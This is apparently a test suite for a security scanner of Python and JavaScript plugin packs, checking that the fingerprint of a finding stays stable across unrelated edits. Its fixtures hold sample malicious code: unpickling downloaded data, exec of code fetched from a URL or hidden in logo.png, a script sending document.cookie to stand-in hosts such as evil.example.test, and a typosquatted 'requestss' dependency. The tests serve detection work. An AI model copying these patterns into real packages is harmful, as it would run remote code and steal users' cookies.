import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { filesOfRecord } from '../../archive/pack-files.ts'
import { inspectPack } from '../../inspection/inspect.ts'
import { testParser } from '../../python/parser.test-support.ts'

const parser = await testParser()

type Files = Readonly<Record<string, string>>

const pack: Files = {
  '__init__.py': 'from .nodes import NODE_CLASS_MAPPINGS\n__version__ = "1.0.0"\n',
  'nodes.py': `
import pickle
from .net import Client, fetch
from .tools import log

HOST = "https://models.example.test"
VERSION = "1.0.0"

def address(name):
    # Addresses have one form.
    return HOST + "/" + name

class Loader:
    CATEGORY = "loaders"

    def __init__(self):
        self.name = "weights"
        self.other = 1

    def unrelated(self):
        return 1

    def load(self):
        log("loading")
        data = fetch(address(self.name))
        return pickle.loads(data)

class Blur:
    def run(self, image):
        return (image,)

NODE_CLASS_MAPPINGS = {"Blur": Blur}
`,
  'net.py': `
import requests

TIMEOUT = 30

def fetch(url):
    return request(url).content

def request(url):
    return requests.get(url, timeout=TIMEOUT)

def upload(url):
    return requests.post(url)

class Client:
    pass
`,
  'tools.py': 'def log(text):\n    print(text)\n\ndef spare():\n    return 1\n',
}

async function groundsIn(files: Files) {
  const { grounds } = await inspectPack(filesOfRecord(files), parser)
  return grounds
}

/** Inspects the pack again with one text replaced. */
async function changed(file: string, before: string, after: string, files = pack) {
  const text = files[file] ?? ''
  assert.ok(text.includes(before), before)
  return groundsIn({ ...files, [file]: text.replace(before, after) })
}

async function assertStays(file: string, before: string, after: string, files = pack) {
  const [was, is] = [await groundsIn(files), await changed(file, before, after, files)]
  assert.equal(was.length, 1)
  assert.deepEqual(
    is.map(({ digest }) => digest),
    was.map(({ digest }) => digest),
    `${before} → ${after}`,
  )
}

async function assertChanges(file: string, before: string, after: string, files = pack) {
  const [was, is] = [await groundsIn(files), await changed(file, before, after, files)]
  assert.equal(was.length, 1)
  assert.equal(is.length, 1)
  assert.notEqual(is[0]?.digest, was[0]?.digest, `${before} → ${after}`)
}

describe('the grounds of a finding in Python', () => {
  it('are its function, its callees and the values on the way', async () => {
    const [found] = await groundsIn(pack)
    assert.deepEqual(
      found?.parts.map(({ file, name, text = '' }) => [file, name, text.split('\n')[0]]),
      [
        ['net.py', '', 'import requests'],
        ['net.py', '', 'TIMEOUT = 30'],
        ['net.py', 'fetch', 'def fetch(url):'],
        ['net.py', 'request', 'def request(url):'],
        ['nodes.py', '', 'import pickle'],
        ['nodes.py', '', 'from .net import Client, fetch'],
        ['nodes.py', '', 'HOST = "https://models.example.test"'],
        ['nodes.py', 'address', 'def address(name):'],
        ['nodes.py', 'Loader.__init__', 'self.name = "weights"'],
        ['nodes.py', 'Loader.load', 'def load(self):'],
        ['tools.py', 'log', 'def log(text):'],
      ],
    )
    assert.ok(!JSON.stringify(found).includes('Addresses have one form'))
  })

  it('stay the same when other code, comments, blanks or places change', async () => {
    await assertStays('nodes.py', 'return (image,)', 'return (image, image)')
    await assertStays('nodes.py', 'return 1', 'return 2')
    await assertStays('nodes.py', 'self.other = 1', 'self.other = 2')
    await assertStays('nodes.py', '# Addresses', '# All addresses')
    await assertStays(
      'nodes.py',
      'HOST + "/" + name',
      '(HOST + "/"\n        + name)'.slice(1, -1).replace('\n        ', ' '),
    )
    await assertStays('nodes.py', '\nclass Loader', '\n\n\nclass Other:\n    pass\n\nclass Loader')
    await assertStays('nodes.py', 'VERSION = "1.0.0"', 'VERSION = "1.0.1"')
    await assertStays('nodes.py', '{"Blur": Blur}', '{"Blur": Blur, "Load": Loader}')
    await assertStays('net.py', 'requests.post(url)', 'requests.post(url, data=1)')
    await assertStays('tools.py', 'return 1', 'return 2')
    await assertStays('__init__.py', '1.0.0', '1.0.1')
  })

  it('change with each statement of the function and of what it calls', async () => {
    await assertChanges('nodes.py', 'data = fetch(', 'data = b"x" + fetch(')
    await assertChanges('nodes.py', 'log("loading")', 'log("now loading")')
    await assertChanges('tools.py', 'print(text)', 'print(text, 1)')
    await assertChanges('nodes.py', 'HOST + "/" + name', 'HOST + "/x/" + name')
    await assertChanges('net.py', 'return request(url)', 'return request(url + "x")')
    await assertChanges('net.py', 'timeout=TIMEOUT', 'timeout=TIMEOUT, verify=False')
  })

  it('change with the values that reach it', async () => {
    await assertChanges('nodes.py', 'models.example', 'evil.example')
    await assertChanges('nodes.py', 'self.name = "weights"', 'self.name = "others"')
    await assertChanges('net.py', 'TIMEOUT = 30', 'TIMEOUT = 31')
    await assertChanges('nodes.py', 'import Client, fetch', 'import Client, upload as fetch')
  })
})

describe('the grounds of a finding in a function with arguments', () => {
  const called: Files = {
    '__init__.py': `
import requests
ADDRESS = "https://a.example.test/x"

def run(address):
    exec(requests.get(address).text)

def start(kind):
    url = ADDRESS + kind
    print("starting")
    run(url)

start("tool")
`,
  }

  it('change with what callers pass, but not with what else they do', async () => {
    await assertChanges('__init__.py', 'a.example', 'b.example', called)
    await assertChanges('__init__.py', 'ADDRESS + kind', 'ADDRESS + kind + "?"', called)
    await assertChanges('__init__.py', 'start("tool")', 'start("other")', called)
    await assertStays('__init__.py', '"starting"', '"started"', called)
  })

  it('change with the files that the code names', async () => {
    const files: Files = {
      '__init__.py': 'def go():\n    exec(open("logo.png").read())\n',
      'logo.png': 'print(1)',
    }
    await assertChanges('logo.png', 'print(1)', 'print(2)', files)
    await assertStays('__init__.py', 'def go', 'A = 1\ndef go', files)
  })
})

describe('the grounds of a finding in a script', () => {
  const scripts: Files = {
    '__init__.py': 'WEB_DIRECTORY = "./web"\nNODE_CLASS_MAPPINGS = {}\n',
    'web/main.js': `
import { host } from "./host.js"
const path = "/c?d="
function show() { return 1 }
function address(part) {
  return host + path + part
}
app.registerExtension({
  setup() {
    const text = document.cookie
    // Sends it.
    fetch("https://example.test" + address(text))
  },
  other() { return 1 },
})
`,
    'web/host.js': 'export const host = "https://example.test"\nexport const spare = 1\n',
  }

  it('stay the same when other code changes', async () => {
    await assertStays('web/main.js', 'show() { return 1 }', 'show() { return 2 }', scripts)
    await assertStays('web/main.js', 'other() { return 1 }', 'other() { return 2 }', scripts)
    await assertStays('web/main.js', '// Sends it.', '\n', scripts)
    await assertStays('web/host.js', 'spare = 1', 'spare = 2', scripts)
  })

  it('change with the function and what it uses', async () => {
    await assertChanges('web/main.js', '"https://example.test"', '"https://evil.example.test"', scripts)
    await assertChanges('web/main.js', 'path = "/c?d="', 'path = "/d?d="', scripts)
    await assertChanges('web/main.js', 'host + path + part', 'host + path + part + 1', scripts)
    await assertChanges('web/host.js', 'host = "https://example', 'host = "https://evil.example', scripts)
  })
})

describe('the grounds over a hundred releases', () => {
  const digests = async (files: Files) => (await groundsIn(files)).map(({ digest }) => digest)
  /** A release changes its number, its other functions, its nodes, and the places of everything. */
  const release = (number: number): Files => ({
    '__init__.py': `from .nodes import NODE_CLASS_MAPPINGS\n__version__ = "1.${number}.0"\n`,
    'nodes.py': `${'\n# A note.'.repeat(number % 7)}${pack['nodes.py']
      ?.replace('VERSION = "1.0.0"', `VERSION = "1.${number}.0"`)
      .replace('self.other = 1', `self.other = ${number}`)
      .replace(
        'def unrelated(self):\n        return 1',
        `def unrelated(self):\n        return ${number} + 1`,
      )}
class Node${number}:
    def run(self, image):
        return (image, ${number})
`,
    'net.py': `${pack['net.py']}\ndef more_${number}():\n    return ${number}\n`,
    'tools.py': `${pack['tools.py']}\nCOUNT = ${number}\n`,
    [`extra_${number}.py`]: `def extra():\n    return ${number}\n`,
  })

  it('stay the same while the code behind the finding does', async () => {
    const first = await digests(release(0))
    assert.ok(first.length > 0)
    for (let number = 1; number <= 100; number++) assert.deepEqual(await digests(release(number)), first)
  })

  it('change with one statement in that function or in one that it calls', async () => {
    const last = release(100)
    const edits = [
      ['nodes.py', 'log("loading")', 'log("loading")\n        data = fetch(HOST)'],
      ['net.py', 'return request(url).content', 'url = url + "?x"\n    return request(url).content'],
      ['net.py', 'requests.get(url, timeout', 'requests.get(url, verify=False, timeout'],
    ] as const
    for (const [file, before, after] of edits) {
      const text = last[file] ?? ''
      assert.ok(text.includes(before))
      assert.notDeepEqual(
        await digests({ ...last, [file]: text.replace(before, after) }),
        await digests(last),
      )
    }
  })
})

describe('the grounds of other findings', () => {
  it('are the name of a requirement, whatever its version', async () => {
    const files: Files = { '__init__.py': '', 'requirements.txt': 'requestss>=1\nnumpy\n' }
    await assertStays('requirements.txt', '>=1', '==2', files)
    await assertStays('requirements.txt', 'numpy', 'scipy', files)
    await assertChanges('requirements.txt', 'requestss', 'reqquests', files)
  })

  it('are the bytes of a file', async () => {
    const files: Files = { '__init__.py': '', 'a/evil.pth': 'import os\n' }
    await assertChanges('a/evil.pth', 'os', 'os, sys', files)
    const moved = { '__init__.py': '', 'b/other.pth': 'import os\n' }
    assert.deepEqual(
      (await groundsIn(moved)).map(({ digest }) => digest),
      (await groundsIn(files)).map(({ digest }) => digest),
    )
  })
})
